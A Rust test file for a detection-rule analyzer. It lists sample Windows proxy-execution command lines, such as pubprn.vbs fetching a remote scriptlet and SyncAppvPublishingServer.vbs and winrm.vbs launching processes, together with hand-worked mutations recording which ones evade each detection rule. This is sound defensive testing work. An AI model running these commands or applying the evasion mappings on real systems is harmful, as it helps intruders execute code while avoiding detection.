//! For each rule of the pack, mutations that evade it and others that do not, worked out by hand.

use super::repairs::check_repairs;
use cutout_core::analyze::{Request, RuleChoice, analyze};
use cutout_core::report::Verdict;
use cutout_core::report::advice::Evasion;
use cutout_tests::pack;

/// The matrix of one rule of the pack, for one of the events of a text.
pub fn matrix(rule: &str, text: &str, event: usize) -> Evasion {
    let analyzer = analyze(Request {
        text: text.to_owned(),
        rules: RuleChoice {
            pack: Some("t1216".to_owned()),
            ..RuleChoice::default()
        },
        ..Request::default()
    });
    let key = format!("pack/{rule}");
    let rules = analyzer.rules();
    let wanted = rules.iter().position(|view| view.key == key).unwrap() as u32;
    let mut evasion = analyzer.evade(event);
    let column = evasion.rules.iter().position(|&rule| rule == wanted);
    let column = column.unwrap_or_else(|| panic!("{rule} does not match {text}"));
    evasion.rules = vec![wanted];
    evasion.scores = vec![evasion.scores[column]];
    for row in &mut evasion.rows {
        row.cells = vec![row.cells.swap_remove(column)];
    }
    evasion
}

/// An event that a rule of the pack matches, and what comes of it.
pub struct Case {
    pub rule: &'static str,
    pub text: &'static str,
    /// Of the events of the text.
    pub event: usize,
    /// Mutations (with the variant behind a colon) and whether the rule survives each, or else
    /// the value of the predicate that breaks, the first of several. Empty where the event has no
    /// command line.
    worked: &'static [(&'static str, Result<(), &'static str>)],
}

const SURVIVES: Result<(), &str> = Ok(());
const INVOKE: Result<(), &str> = Err("SyncInvoke ");
const LOAD: Result<(), &str> = Err("LoadAssemblyFromPath ");
const SWITCHES: Result<(), &str> = Err(" -nologo -windowstyle minimized -file ");
const PARAMETER: Result<(), &str> = Err("VsWherePath ");
const SCRIPT: Result<(), &str> = Err("Launch-VsDevShell.ps1");
const NAME: Result<(), &str> = Err("manage-bde.wsf");
const PUBPRN: Result<(), &str> = Err(r"\pubprn.vbs");
const SIGMA: Result<(), &str> = Err(r"\SyncAppvPublishingServer.vbs");
const SPLUNK: Result<(), &str> = Err("syncappvpublishingserver.vbs");
const OPERATION: Result<(), &str> = Err("invoke Create wmicimv2/Win32_");
const REMOTE: Result<(), &str> = Err("-r:http");
const HELP: Result<(), &str> = Err("Get-Help");

/// What looks at the parent alone.
const PARENT: &[(&str, Result<(), &str>)] = &[
    ("letter_case", SURVIVES),
    ("quoted_parts", SURVIVES),
    ("blanks", SURVIVES),
    ("parent_folder", SURVIVES),
    ("verbatim_path", SURVIVES),
];

/// A sequence: the other event of the match stays as it is.
const WAIT_AND_SCRIPT: &str = r#"{"@timestamp": "2026-03-01T08:00:00Z", "event": {"category": "process", "type": "start", "action": "start"}, "host": {"os": {"type": "windows"}}, "process": {"name": "PING.EXE", "command_line": "ping -n 5 192.0.2.1", "args": ["ping", "-n", "5", "192.0.2.1"], "parent": {"name": "cmd.exe", "entity_id": "a"}}, "user": {"id": "S-1-5-21-1"}}
{"@timestamp": "2026-03-01T08:00:30Z", "event": {"category": "process", "type": "start", "action": "start"}, "host": {"os": {"type": "windows"}}, "process": {"name": "cscript.exe", "command_line": "cscript.exe C:\\x\\a.vbs", "args": ["cscript.exe", "C:\\x\\a.vbs"], "parent": {"name": "cmd.exe", "entity_id": "a"}}}"#;

pub const CASES: &[Case] = &[
    Case {
        rule: "cl_invocation.yml",
        text: r#"powershell.exe -c "ipmo .\CL_Invocation.ps1; SyncInvoke cmd.exe '/c calc'""#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("alias", SURVIVES),
            ("code_blanks: two blanks", SURVIVES),
            ("code_blanks: tabs", INVOKE),
            ("unicode: no-break spaces", INVOKE),
            ("tick", INVOKE),
            ("concatenation", INVOKE),
            ("encoded_command", INVOKE),
        ],
    },
    Case {
        rule: "cl_loadassembly.yml",
        text: r#"powershell -ep bypass -command "import-module .\CL_LoadAssembly.ps1; LoadAssemblyFromPath ..\x.dll""#,
        event: 0,
        worked: &[
            ("forward_slashes", SURVIVES),
            ("switch_mark: en dash", SURVIVES),
            ("tick", LOAD),
            ("concatenation", LOAD),
            ("encoded_command", LOAD),
        ],
    },
    // Either predicate is enough, so both have to go.
    Case {
        rule: "utilityfunctions.yml",
        text: r#"powershell -c "ipmo .\UtilityFunctions.ps1; RegSnapin ..\x.dll; [P.C]::Main()""#,
        event: 0,
        worked: &[
            ("tick", SURVIVES),
            ("short_name", SURVIVES),
            ("concatenation", SURVIVES),
            ("encoded_command", Err("UtilityFunctions.ps1")),
        ],
    },
    Case {
        rule: "cl_mutexverifiers.yml",
        text: r#"{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -nologo -windowstyle minimized -file C:\\Users\\a\\AppData\\Local\\Temp\\x.ps1"}"#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("same_folder", SURVIVES),
            ("blanks", SWITCHES),
            ("argument_order", SWITCHES),
            ("abbreviation: short", SWITCHES),
            ("switch_mark: horizontal bar", SWITCHES),
            ("forward_slashes", Err(r"\AppData\Local\Temp\")),
            ("without_folder", Err(r"\AppData\Local\Temp\")),
        ],
    },
    Case {
        rule: "launch_vsdevshell.yml",
        text: r"powershell -ep RemoteSigned -f .\Launch-VsDevShell.ps1 -VsWherePath C:\Windows\System32\calc.exe",
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("blanks", SURVIVES),
            ("switch_mark: em dash", SURVIVES),
            ("without_folder", SURVIVES),
            ("tabs", PARAMETER),
            ("joined_value", PARAMETER),
            ("abbreviation: short", PARAMETER),
            ("short_name", SCRIPT),
            ("quoted_parts", SCRIPT),
        ],
    },
    Case {
        rule: "manage_bde.yml",
        text: r#"{"Image": "C:\\Windows\\System32\\wscript.exe", "OriginalFileName": "wscript.exe", "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": "cmd", "CommandLine": "wscript.exe C:\\Windows\\System32\\manage-bde.wsf -status"}"#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("forward_slashes", SURVIVES),
            ("without_folder", SURVIVES),
            // OriginalFileName, which the rule has beside the image, stays in a copy.
            ("renamed_program", SURVIVES),
            ("host_swap", Err(r"\wscript.exe")),
            ("short_name", NAME),
            ("quoted_parts", NAME),
        ],
    },
    Case {
        rule: "pubprn.yml",
        text: r"cscript //b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("host_swap", SURVIVES),
            ("short_name", SURVIVES),
            ("argument_order", SURVIVES),
            ("quoted_parts", PUBPRN),
            ("forward_slashes", PUBPRN),
            ("without_folder", PUBPRN),
            ("without_extension", PUBPRN),
        ],
    },
    Case {
        rule: "syncappvpublishingserver.yml",
        text: r#"C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc""#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("tick", SURVIVES),
            ("alias", SURVIVES),
            ("without_folder", SIGMA),
            ("short_name", SIGMA),
            ("quoted_program", SIGMA),
        ],
    },
    Case {
        rule: "syncappvpublishingserver_splunk.yml",
        text: r#"wscript.exe C:\Windows\System32\SyncAppvPublishingServer.vbs "n; Start-Process calc""#,
        event: 0,
        worked: &[
            ("forward_slashes", SURVIVES),
            ("without_folder", SURVIVES),
            ("host_swap", SURVIVES),
            ("short_name", SPLUNK),
            ("quoted_parts", SPLUNK),
        ],
    },
    Case {
        rule: "winrm_awl_bypass.yml",
        text: r"C:\Temp\cscript.exe C:\Windows\System32\winrm.vbs get winrm/config -format:pretty",
        event: 0,
        worked: &[
            ("blanks", SURVIVES),
            ("switch_mark", SURVIVES),
            // The rule has this spelling, too.
            ("quoted_parts", SURVIVES),
            ("abbreviation: short", Err("format:pretty")),
        ],
    },
    Case {
        rule: "winrm_remote_execution.yml",
        text: r#"cscript //nologo C:\Windows\System32\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="calc.exe"} -r:http://192.0.2.1:5985"#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("argument_order", SURVIVES),
            ("blanks", OPERATION),
            ("quoted_parts", OPERATION),
            ("abbreviation: short", OPERATION),
            ("abbreviation: in full", REMOTE),
            ("switch_mark", REMOTE),
        ],
    },
    Case {
        rule: "pester.yml",
        text: r#"{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -NoProfile -Command \"& { Import-Module Pester; & { Get-Help Pester } }\""}"#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("alias", SURVIVES),
            ("code_blanks: tabs", SURVIVES),
            ("tick", HELP),
            ("concatenation", HELP),
            ("encoded_command", Err("Pester")),
            ("renamed_program", Err(r"\powershell.exe")),
        ],
    },
    Case {
        rule: "delayed_execution_ping.toml",
        text: WAIT_AND_SCRIPT,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("blanks", SURVIVES),
            ("quoted_program", SURVIVES),
            ("switch_mark", Err("-n")),
        ],
    },
    Case {
        rule: "delayed_execution_ping.toml",
        text: WAIT_AND_SCRIPT,
        event: 1,
        worked: &[
            ("host_swap", SURVIVES),
            ("tabs", SURVIVES),
            ("without_folder", SURVIVES),
        ],
    },
    Case {
        rule: "customshellhost.yml",
        text: r#"{"Image": "C:\\test\\tool.exe", "ParentImage": "C:\\Windows\\System32\\CustomShellHost.exe", "CommandLine": "C:\\test\\tool.exe -run file"}"#,
        event: 0,
        worked: PARENT,
    },
    Case {
        rule: "sigverif.yml",
        text: r#"{"Image": "C:\\test\\tool.exe", "ParentImage": "C:\\Windows\\System32\\sigverif.exe", "CommandLine": "C:\\test\\tool.exe -run file"}"#,
        event: 0,
        worked: PARENT,
    },
    Case {
        rule: "pester_child.yml",
        text: r#"{"Image": "C:\\test\\tool.exe", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentCommandLine": "powershell -c \"C:\\Program Files\\WindowsPowerShell\\Modules\\Pester\\x { Invoke-Pester -EnableExit ; }\"", "CommandLine": "C:\\test\\tool.exe -run file"}"#,
        event: 0,
        worked: PARENT,
    },
    // Nothing in the searches makes the count that they ask for, so the record has it.
    Case {
        rule: "bash_winevent.yml",
        text: r#"{"EventCode": "4688", "process_name": "bash.exe", "process": "bash.exe -c id", "event_count": "1", "_time": "2026-03-01T08:00:00Z", "host": "pc-1"}"#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("blanks", SURVIVES),
            ("tabs", SURVIVES),
            ("quoted_program", SURVIVES),
        ],
    },
    Case {
        rule: "bash_sysmon.yml",
        text: r#"{"EventCode": "1", "process_name": "bash.exe", "process": "bash.exe -c id", "event_count": "1", "_time": "2026-03-01T08:00:00Z", "host": "pc-1"}"#,
        event: 0,
        worked: &[
            ("letter_case", SURVIVES),
            ("blanks", SURVIVES),
            ("tabs", SURVIVES),
            ("quoted_program", SURVIVES),
        ],
    },
    Case {
        rule: "winrm_awl_bypass_file.yml",
        text: r#"{"EventID": 11, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\x.exe", "TargetFilename": "C:\\Temp\\WsmPty.xsl"}"#,
        event: 0,
        worked: &[],
    },
];

#[test]
fn each_rule_of_the_pack_is_evaded_where_a_reader_finds() {
    CASES.iter().for_each(check);
    pack::assert_each_has_a_case("evasion", CASES.iter().map(|case| case.rule));
}

fn check(case: &Case) {
    let Case {
        rule,
        text,
        event,
        worked,
    } = case;
    let evasion = matrix(rule, text, *event);
    if worked.is_empty() {
        assert_eq!(evasion.rows, []);
        assert!(evasion.note.unwrap().contains("no command line"), "{rule}");
        return;
    }
    for (name, wanted) in *worked {
        let (mutation, variant) = name.split_once(": ").unwrap_or((name, ""));
        let row = evasion
            .rows
            .iter()
            .find(|row| row.mutation == mutation && row.title.ends_with(variant))
            .unwrap_or_else(|| panic!("{name} does not apply to {text}"));
        assert!(row.reaches_log, "{name}");
        let cell = &row.cells[0];
        let broken = cell.broke.first().map(|broken| &*broken.predicate.value);
        let found = match cell.verdict {
            Verdict::Match => Ok(()),
            _ => Err(broken.unwrap_or("")),
        };
        assert_eq!(found, *wanted, "{rule}, {name}: {}", row.logged);
    }
    let of = evasion.rows.iter().filter(|row| row.reaches_log);
    let survived = of
        .clone()
        .filter(|row| row.cells[0].verdict == Verdict::Match);
    let score = evasion.scores[0];
    assert_eq!(
        (score.survived, score.of),
        (survived.count() as u32, of.count() as u32)
    );
    check_repairs(&evasion, text, *event);
    for row in evasion.rows.iter().filter(|row| !row.reaches_log) {
        assert_eq!(row.logged, evasion.line);
        assert_eq!(row.cells[0].verdict, Verdict::Match, "{}", row.mutation);
    }
}
